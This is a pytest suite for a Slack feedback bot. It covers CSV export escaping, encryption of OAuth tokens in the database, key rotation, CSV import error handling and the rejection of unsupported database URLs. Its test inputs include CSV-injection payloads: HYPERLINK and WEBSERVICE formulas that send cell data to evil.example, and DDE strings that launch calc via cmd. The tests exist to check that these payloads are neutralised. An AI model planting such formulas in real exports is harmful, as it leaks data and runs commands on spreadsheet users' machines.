"""Data at rest and in files: CSV exports a spreadsheet can't run, Slack tokens encrypted in the
database, imports that never turn a broken record into items, and database URLs we can't serve."""

from __future__ import annotations

import codecs
import csv
import io
import json
import os
import re
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import httpx
import pytest
from cryptography.fernet import Fernet, InvalidToken
from slack_sdk.oauth.installation_store import Installation
from slack_sdk.oauth.installation_store.sqlalchemy import SQLAlchemyInstallationStore
from sqlalchemy import create_engine, text

from bot.core import clock
from bot.core.db import Database
from bot.core.settings import load_settings
from bot.features.announcements import service as an_svc
from bot.features.decisions import service as dec_svc
from bot.features.feedback import service as fb_svc
from bot.features.subscriptions import service as sub_svc
from tests.support.cli import CLEAN_ENV, run
from tests.support.env import PG_ADMIN_URL, REP, SIGNING_SECRET, RunningServer, export, which_db
from tests.support.process import free_port
from tests.support.slack_requests import SlackSender

TEAM = "T0ATREST"

# --- CSV export: nothing a spreadsheet would run ----------------------------------------------------

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"click for your invoice")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C notepad'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1 hidden behind a tab",
    "cr": "\r=1+1 behind a carriage return",
}


def export_csv(db_url: str, what: str) -> list[dict[str, str]]:
    # Bytes, not text mode: universal newlines would turn a cell's "\r" into "\n".
    r = subprocess.run([sys.executable, "-m", "bot", "export", what, "--format", "csv"], capture_output=True,
                       env={**CLEAN_ENV, "DATABASE_URL": db_url}, timeout=120)
    assert r.returncode == 0, r.stderr
    return list(csv.DictReader(io.StringIO(r.stdout.decode("utf-8"), newline="")))


def test_csv_export_neutralises_formulas_in_every_kind_and_keeps_numbers(db, db_url):
    with db.session() as s:
        for i, (name, formula) in enumerate(FORMULAS.items()):
            fb_svc.capture_feedback(s, team_id=TEAM, source="import", source_key=f"k-{name}", text=formula,
                                    customer="=cmd|'/C calc'!A0" if i == 0 else "Acme & Co <3",
                                    arr=120_000.0, reporter="@sam")
        fb_svc.capture_feedback(s, team_id=TEAM, source="import", source_key="k-plain",
                                text="Café ☕ export “just works” — 2 + 2 = 4, <!channel> & co", arr=None)
        dec_svc.create_decision(s, team_id=TEAM, source_key="d1", title='=HYPERLINK("http://evil","D")',
                                created_by="U0PM", channel="C0PRODUCT", context="@SUM(A1:A9)")
        sub_svc.subscribe(s, team_id=TEAM, channel_id="C0REL", text="billing", by="U0ADMIN", may_create=True)
        an_svc.create_announcement(s, team_id=TEAM, source_key="a1", title="-1+1 pricing change",
                                   body='=WEBSERVICE("http://evil.example/?"&A1)', areas=["billing"],
                                   author="U0ADMIN", send_at=clock.now() + timedelta(days=1))

    rows = export_csv(db_url, "feedback")
    by_text = {r["text"]: r for r in rows}
    for formula in FORMULAS.values():
        # OWASP's CSV-injection advice: a leading single quote makes the cell text in every spreadsheet.
        assert "'" + formula in by_text, (formula, list(by_text))
    first = by_text["'" + FORMULAS["hyperlink"]]
    assert first["customer"] == "'=cmd|'/C calc'!A0" and first["reporter"] == "'@sam"
    assert first["arr"] == "120000.0"  # a number column stays a number
    assert by_text["'" + FORMULAS["plus"]]["customer"] == "Acme & Co <3"
    assert "Café ☕ export “just works” — 2 + 2 = 4, <!channel> & co" in by_text
    assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for r in rows for v in r.values())

    (decision,) = export_csv(db_url, "decisions")
    assert decision["title"] == "'=HYPERLINK(\"http://evil\",\"D\")" and decision["context"] == "'@SUM(A1:A9)"
    (announcement,) = export_csv(db_url, "announcements")
    assert announcement["title"] == "'-1+1 pricing change"
    assert announcement["body"] == "'=WEBSERVICE(\"http://evil.example/?\"&A1)"

    # JSON lines are data for programs, not spreadsheets: verbatim.
    recs = {rec["text"] for rec in export(db)}
    assert set(FORMULAS.values()) <= recs


def test_csv_cells_negative_numbers_stay_numbers_text_that_looks_like_a_formula_does_not():
    from bot.core.exports import records_to_csv

    out = "".join(records_to_csv([
        {"id": "FB-1", "arr": -1200.5, "votes": -3, "text": "-1200.5", "decision_ids": ["D-1"]},
        {"id": "FB-2", "arr": 0.0, "votes": 0, "text": "", "decision_ids": []},
    ], ["id", "arr", "votes", "text", "decision_ids"]))
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert rows[0] == {"id": "FB-1", "arr": "-1200.5", "votes": "-3", "text": "'-1200.5", "decision_ids": '["D-1"]'}
    assert rows[1] == {"id": "FB-2", "arr": "0.0", "votes": "0", "text": "", "decision_ids": "[]"}


# --- OAuth tokens encrypted at rest ----------------------------------------------------------------

KEY_A = Fernet.generate_key().decode()
KEY_B = Fernet.generate_key().decode()
CLIENT_ID = "111.222"
SECRETS = ("xoxb-", "xoxp-", "xoxe", "hooks.slack.com")


def raw_token_rows(db_url: str) -> list[dict[str, object]]:
    engine = create_engine(db_url)
    with engine.connect() as c:
        rows = [dict(r._mapping) for table in ("slack_bots", "slack_installations")
                for r in c.execute(text(f"SELECT * FROM {table}"))]
    engine.dispose()
    return rows


def oauth_settings(fake, db_url: str, key: str | None):
    extra = {"loopline_encryption_key": key} if key else {}
    return load_settings(slack_client_id=CLIENT_ID, slack_client_secret="oauth-secret",
                         slack_signing_secret=SIGNING_SECRET, slack_api_url=fake.base_url, database_url=db_url,
                         **extra)


def test_oauth_tokens_are_encrypted_in_the_database_and_used_by_edge_and_worker(fake, db, db_url):
    srv = RunningServer(oauth_settings(fake, db_url, f"{KEY_A},{KEY_B}"))
    try:
        with httpx.Client(base_url=srv.url, follow_redirects=False) as http:
            state = re.search(r"state=([\w-]+)", http.get("/slack/install").text).group(1)
            done = http.get(f"/slack/oauth_redirect?code=good-code&state={state}",
                            cookies={"slack-app-oauth-state": state})
            assert done.status_code == 200, done.text
        rows = raw_token_rows(db_url)
        assert len(rows) == 2  # one installation, one bot
        dump = json.dumps(rows, default=str)
        assert not any(s in dump for s in SECRETS), dump
        bot_token = fake.oauth_response["access_token"]
        assert Fernet(KEY_A).decrypt(rows[0]["bot_token"].encode()).decode() == bot_token  # the first key encrypts

        team = fake.oauth_response["team"]["id"]
        sender = SlackSender(srv.url, SIGNING_SECRET, response_url_base=fake.url.rstrip("/") + "/webhook")
        r = sender.command("/feedback", "Encrypted installs still capture 🔐", user=REP, team=team)
        assert r.status_code == 200 and "FB-" in r.json()["text"]  # the edge decrypted the bot token
        ts = fake.add_message("C0ACME", "Export to Excel keeps dropping the € sign", user="U0CUST")
        sender.reaction("reaction_added", user=REP, channel="C0ACME", ts=ts, reaction="bulb", team=team)
        srv.settle()
        sender.close()
        assert {rec["text"] for rec in export(db)} == {"Encrypted installs still capture 🔐",
                                                      "Export to Excel keeps dropping the € sign"}
        worker_calls = [c for c in fake.calls if c.method != "oauth.v2.access"]
        assert worker_calls and {c.token for c in worker_calls} == {bot_token}  # the worker decrypted it too
    finally:
        srv.stop()


def test_a_token_no_key_opens_after_start_is_never_acked_as_success(fake, db, db_url, caplog):
    """A replica with another first key wrote it: requests for that workspace fail loudly (Slack retries
    events answered 5xx), nothing is stored as if it worked, and the log says why."""
    srv = RunningServer(oauth_settings(fake, db_url, KEY_A))
    try:
        with httpx.Client(base_url=srv.url) as http:
            state = re.search(r"state=([\w-]+)", http.get("/slack/install").text).group(1)
            http.get(f"/slack/oauth_redirect?code=good-code&state={state}", cookies={"slack-app-oauth-state": state})
        foreign = Fernet(KEY_B).encrypt(fake.oauth_response["access_token"].encode()).decode()
        with db.session() as s:
            for table in ("slack_bots", "slack_installations"):
                s.execute(text(f"UPDATE {table} SET bot_token = :t"), {"t": foreign})
        team = fake.oauth_response["team"]["id"]
        sender = SlackSender(srv.url, SIGNING_SECRET)
        r = sender.command("/feedback", "Is this stored?", user=REP, team=team)
        assert r.status_code == 200 and "FB-" not in r.text and "went wrong" in r.text
        r = sender.reaction("reaction_added", user=REP, channel="C0ACME", ts="1700000000.000100", team=team)
        assert r.status_code == 500  # Slack retries it (after a key fix it goes through)
        sender.close()
        assert export(db) == []
        assert any("can't be decrypted" in rec.getMessage() for rec in caplog.records)
    finally:
        srv.stop()


def run_serve(env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """`python -m bot serve` that must refuse to start: a hang past the timeout is a failure."""
    port = free_port()  # a server that wrongly starts disturbs nobody
    return subprocess.run([sys.executable, "-m", "bot", "serve", "--host", "127.0.0.1", "--port", str(port)], cwd=cwd,
                          env={**CLEAN_ENV, **env}, capture_output=True, text=True, timeout=60)


def oauth_env(fake, db_url: str, key: str | None = None) -> dict[str, str]:
    env = {"SLACK_CLIENT_ID": CLIENT_ID, "SLACK_CLIENT_SECRET": "oauth-secret", "SLACK_SIGNING_SECRET": "s",
           "SLACK_API_URL": fake.base_url, "DATABASE_URL": db_url}
    return {**env, "LOOPLINE_ENCRYPTION_KEY": key} if key else env


def assert_one_line(r: subprocess.CompletedProcess[str], *needles: str) -> None:
    assert r.returncode == 2, (r.returncode, r.stderr[-2000:])
    assert r.stderr.strip().count("\n") == 0 and "Traceback" not in r.stderr, r.stderr
    for needle in needles:
        assert needle in r.stderr, r.stderr


def test_oauth_without_a_key_or_with_a_malformed_one_refuses_to_start(fake, db, db_url, tmp_path):
    r = run_serve(oauth_env(fake, db_url), tmp_path)
    assert_one_line(r, "LOOPLINE_ENCRYPTION_KEY is not set", "loopline new-key")
    r = run_serve(oauth_env(fake, db_url, f"{KEY_A},not-a-key-at-all"), tmp_path)
    assert_one_line(r, "LOOPLINE_ENCRYPTION_KEY")
    assert KEY_A not in r.stderr and "not-a-key-at-all" not in r.stderr  # a key is never echoed
    new = run("new-key")
    assert new.returncode == 0 and Fernet(new.stdout.strip().encode())  # a usable key


def seed_install(db_url: str, *, bot_token: str, user_token: str, team: str = "T0SEEDED") -> None:
    """An installation written as slack-sdk writes it (tokens as given: plain, or encrypted by the test)."""
    store = SQLAlchemyInstallationStore(client_id=CLIENT_ID, engine=Database(db_url).engine)
    store.create_tables()
    store.save(Installation(app_id="A0KRD7HC3", enterprise_id=None, team_id=team, team_name="Seeded Corp",
                            bot_token=bot_token, bot_id="B0SEED", bot_user_id="U0SEEDBOT", bot_scopes="chat:write",
                            user_id="U0INSTALLER", user_token=user_token, user_scopes="chat:write"))
    store.engine.dispose()


def test_tokens_that_no_key_decrypts_stop_start_up_with_one_line(fake, db, db_url, tmp_path):
    seed_install(db_url, bot_token=Fernet(KEY_A).encrypt(b"xoxb-1-seeded").decode(),
                 user_token=Fernet(KEY_A).encrypt(b"xoxp-1-seeded").decode())
    r = run_serve(oauth_env(fake, db_url, KEY_B), tmp_path)
    assert_one_line(r, "LOOPLINE_ENCRYPTION_KEY", "can't be decrypted", "T0SEEDED")
    assert KEY_B not in r.stderr


def test_rotate_key_reencrypts_every_token_with_the_first_key(fake, db, db_url):
    from bot.runtime import Runtime

    seed_install(db_url, bot_token=Fernet(KEY_A).encrypt(b"xoxb-1-rotate-me").decode(),
                 user_token=Fernet(KEY_A).encrypt(b"xoxp-1-rotate-me").decode())
    env = oauth_env(fake, db_url, f"{KEY_B},{KEY_A}")
    r = run("rotate-key", env=env)
    assert r.returncode == 0, r.stderr
    assert "re-encrypted 3 tokens" in r.stdout  # the bot row's token, the installation's bot and user tokens
    rows = raw_token_rows(db_url)
    assert {Fernet(KEY_B).decrypt(row["bot_token"].encode()) for row in rows} == {b"xoxb-1-rotate-me"}
    for row in rows:
        with pytest.raises(InvalidToken):  # the old key no longer opens anything
            Fernet(KEY_A).decrypt(row["bot_token"].encode())
    # Only the new key is needed now.
    rt = Runtime(oauth_settings(fake, db_url, KEY_B))
    try:
        assert rt.slack.token_for("T0SEEDED") == "xoxb-1-rotate-me"
    finally:
        rt.stop()
    again = run("rotate-key", env=oauth_env(fake, db_url, KEY_A))
    assert_one_line(again, "can't be decrypted")


def test_tokens_stored_in_plain_text_before_the_upgrade_are_encrypted_at_start(fake, db, db_url):
    from bot.runtime import Runtime

    seed_install(db_url, bot_token="xoxb-1-legacy-plain", user_token="xoxp-1-legacy-plain")
    assert "xoxb-1-legacy-plain" in json.dumps(raw_token_rows(db_url), default=str)
    rt = Runtime(oauth_settings(fake, db_url, KEY_A))
    try:
        assert rt.slack.token_for("T0SEEDED") == "xoxb-1-legacy-plain"
        inst = rt.oauth_stores[0].find_installation(enterprise_id=None, team_id="T0SEEDED")
        assert inst.user_token == "xoxp-1-legacy-plain"
    finally:
        rt.stop()
    dump = json.dumps(raw_token_rows(db_url), default=str)
    assert not any(s in dump for s in SECRETS), dump


# --- import feedback: encodings, oversize cells, broken records -----------------------------------

HEADER = ["text", "area", "kind", "customer", "arr", "created_at", "reporter"]


def csv_text(rows: list[list[str]]) -> str:
    buf = io.StringIO(newline="")
    csv.writer(buf).writerows(rows)
    return buf.getvalue()


def import_file(path: Path, db_url: str, *extra: str) -> subprocess.CompletedProcess[str]:
    return run("import", "feedback", str(path), "--team", TEAM, *extra, env={"DATABASE_URL": db_url})


def test_an_oversized_cell_is_that_rows_error_and_the_next_row_is_imported(db, db_url, tmp_path):
    pasted = "".join(f"> On Mon, Sam wrote: row {i}, \"quoted\", 🎉 & <b>\n" for i in range(4400))
    assert len(pasted) > 200_000  # over the csv module's field size limit (131,072)
    rows = [HEADER,
            ["Bulk-edit seats, please 🙏", "admin", "idea", "Acme Corp", "120k", "", "sam"],
            [pasted, "email", "feedback", "Globex", "", "", ""],
            ["Row after the big one must survive", "billing", "bug", "Initech", "", "", ""],
            ["Dark mode <3", "", "", "", "", "", ""]]
    path = tmp_path / "pasted.csv"
    path.write_text(csv_text(rows), encoding="utf-8", newline="")
    r = import_file(path, db_url)
    assert r.returncode == 0, r.stderr
    assert "imported 3, already present 0, rejected 1" in r.stdout, r.stdout
    assert re.search(r"line 3: text is [\d,]+ characters long; the limit is 40,000", r.stdout), r.stdout
    assert len(r.stdout) < 1000  # the cell is not echoed back
    assert sorted(rec["text"] for rec in export(db)) == sorted([rows[1][0], rows[3][0], rows[4][0]])


def test_a_latin1_file_is_refused_before_anything_is_imported_and_imports_with_encoding(db, db_url, tmp_path):
    rows = [HEADER, ["Export to Excel is great", "exports", "praise", "", "", "", ""],
            ["Café menu: the € sign is lost", "billing", "bug", "Café Müller", "", "", ""]]
    path = tmp_path / "latin1.csv"
    path.write_bytes(csv_text(rows).encode("cp1252"))
    r = import_file(path, db_url)
    assert r.returncode == 2, r.stdout + r.stderr
    assert r.stderr.strip().count("\n") == 0 and "Traceback" not in r.stderr, r.stderr
    assert "not UTF-8" in r.stderr and "line 3" in r.stderr and "--encoding cp1252" in r.stderr
    assert "nothing was imported" in r.stderr
    assert export(db) == []
    r = import_file(path, db_url, "--encoding", "cp1252")
    assert r.returncode == 0 and "imported 2" in r.stdout, r.stdout + r.stderr
    assert {(rec["text"], rec["customer"]) for rec in export(db)} == {
        ("Export to Excel is great", None), ("Café menu: the € sign is lost", "Café Müller")}


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be", "utf-8"])
def test_files_with_a_byte_order_mark_are_read_in_their_encoding(db, db_url, tmp_path, codec):
    bom = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE, "utf-8": codecs.BOM_UTF8}[codec]
    rows = [HEADER, ["Emoji survive: 🎉🙏 and 日本語 too", "i18n", "idea", "Tokyo KK", "", "", ""],
            ["Line one of a quote\r\nline two, with \"quotes\"", "exports", "bug", "Café Müller", "", "", ""]]
    path = tmp_path / f"{codec}.csv"
    path.write_bytes(bom + csv_text(rows).encode(codec))
    r = import_file(path, db_url)
    assert r.returncode == 0 and "imported 2, already present 0, rejected 0" in r.stdout, r.stdout + r.stderr
    assert sorted(rec["text"] for rec in export(db)) == sorted([rows[1][0], rows[2][0]])
    assert {rec["customer"] for rec in export(db)} == {"Tokyo KK", "Café Müller"}


def test_utf16_without_a_byte_order_mark_is_refused_by_name(db, db_url, tmp_path):
    path = tmp_path / "nobom.csv"
    path.write_bytes(csv_text([HEADER, ["Hello", "", "", "", "", "", ""]]).encode("utf-16-le"))
    r = import_file(path, db_url)
    assert r.returncode == 2 and r.stderr.strip().count("\n") == 0 and "Traceback" not in r.stderr, r.stderr
    assert "UTF-16" in r.stderr and "nothing was imported" in r.stderr
    assert export(db) == []


def test_a_broken_record_is_reported_with_its_lines_and_never_becomes_an_item(db, db_url, tmp_path):
    lines = [
        "text,area,kind,customer,arr,created_at,reporter",          # 1
        "Good row before,billing,bug,Acme,,,",                        # 2
        '"Unclosed quote starts here, billing,bug,Acme,,,',           # 3  (never closed)
        "Row swallowed by the open quote,billing,bug,Acme,,,",        # 4
        '"Quoted, properly",billing,idea,Globex,,,',                  # 5  (its quote meets the open one)
        "Good row after,billing,bug,Initech,,,",                      # 6
        "Too,many,cells,here,,,,,",                                   # 7
        "Too few cells,billing",                                      # 8
        '"A quote ""inside"" and a line\nbreak ✔",exports,bug,Hooli,,,',  # 9-10
    ]
    path = tmp_path / "broken.csv"
    path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8", newline="")
    r = import_file(path, db_url)
    assert r.returncode == 0, r.stderr
    out = r.stdout
    assert "imported 3, already present 0, rejected 3" in out, out
    assert re.search(r"line 3: malformed CSV record .*lines 3[–-]5 not imported", out), out
    assert "line 7: too many cells (9 for 7 columns)" in out and "line 8: too few cells (2 for 7 columns)" in out
    texts = sorted(rec["text"] for rec in export(db))
    assert texts == sorted(["Good row before", "Good row after", 'A quote "inside" and a line\nbreak ✔'])
    assert not any("Unclosed" in t or "swallowed" in t for t in texts)


def test_an_unclosed_quote_on_the_last_record_is_reported_not_imported(db, db_url, tmp_path):
    path = tmp_path / "tail.csv"
    path.write_text('text\nFirst idea\n"Second idea, never closed\nthird line\n', encoding="utf-8")
    r = import_file(path, db_url)
    assert "imported 1, already present 0, rejected 1" in r.stdout and "line 3: malformed CSV" in r.stdout, r.stdout
    assert [rec["text"] for rec in export(db)] == ["First idea"]


# --- DATABASE_URL we can't serve -------------------------------------------------------------------


@pytest.mark.parametrize("url", ["mysql://loopline:pw@127.0.0.1:3306/loopline", "sqlite:///:memory:", "sqlite://",
                                 "mssql+pyodbc://u:p@dsn"])
def test_unsupported_database_urls_stop_serve_and_migrate_with_one_line(fake, tmp_path, url):
    env = {"SLACK_SIGNING_SECRET": "s", "SLACK_BOT_TOKEN": "xoxb-1", "SLACK_API_URL": fake.base_url,
           "DATABASE_URL": url}
    for r in (run_serve(env, tmp_path), run("migrate", env=env, cwd=tmp_path)):
        assert_one_line(r, "DATABASE_URL")
        assert "SQLite" in r.stderr and "PostgreSQL" in r.stderr
        assert "pw@" not in r.stderr  # the password is not echoed
    assert not any(p.name.startswith(":memory:") for p in tmp_path.iterdir())


def test_supported_database_urls_still_start(tmp_path):
    r = run("migrate", env={"DATABASE_URL": f"sqlite:///{tmp_path}/ok.db"}, cwd=tmp_path)
    assert r.returncode == 0 and "up to date" in r.stdout, r.stderr
    assert os.path.exists(tmp_path / "ok.db")


def test_postgres_tables_from_before_encryption_are_widened_for_ciphertext(tmp_path):
    """slack-sdk made token columns VARCHAR(200); ciphertext of a token over 79 characters is longer."""

    if not which_db().startswith("postgres"):
        pytest.skip("SQLite does not enforce VARCHAR lengths")
    from bot.slack.oauth import EncryptedInstallationStore, TokenCipher

    name = f"loopline_widen_{os.getpid()}"
    admin = create_engine(PG_ADMIN_URL, isolation_level="AUTOCOMMIT")
    with admin.connect() as c:
        c.execute(text(f'DROP DATABASE IF EXISTS "{name}"'))
        c.execute(text(f'CREATE DATABASE "{name}"'))
    url = PG_ADMIN_URL.rsplit("/", 1)[0] + "/" + name
    try:
        database = Database(url)
        SQLAlchemyInstallationStore(client_id=CLIENT_ID, engine=database.engine).create_tables()  # as before
        database.upgrade()
        store = EncryptedInstallationStore(CLIENT_ID, database.engine, TokenCipher([KEY_A]))
        user_token = "xoxp-1234567890123-1234567890123-1234567890123-" + "0123456789abcdef" * 4  # 111 chars
        store.save(Installation(app_id="A0KRD7HC3", team_id="T0WIDE", bot_token="xoxb-" + "9" * 52,
                                user_id="U0WIDE", user_token=user_token))
        assert store.find_installation(enterprise_id=None, team_id="T0WIDE").user_token == user_token
        database.dispose()
    finally:
        with admin.connect() as c:
            c.execute(text(f"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = '{name}'"))
            c.execute(text(f'DROP DATABASE IF EXISTS "{name}"'))
        admin.dispose()
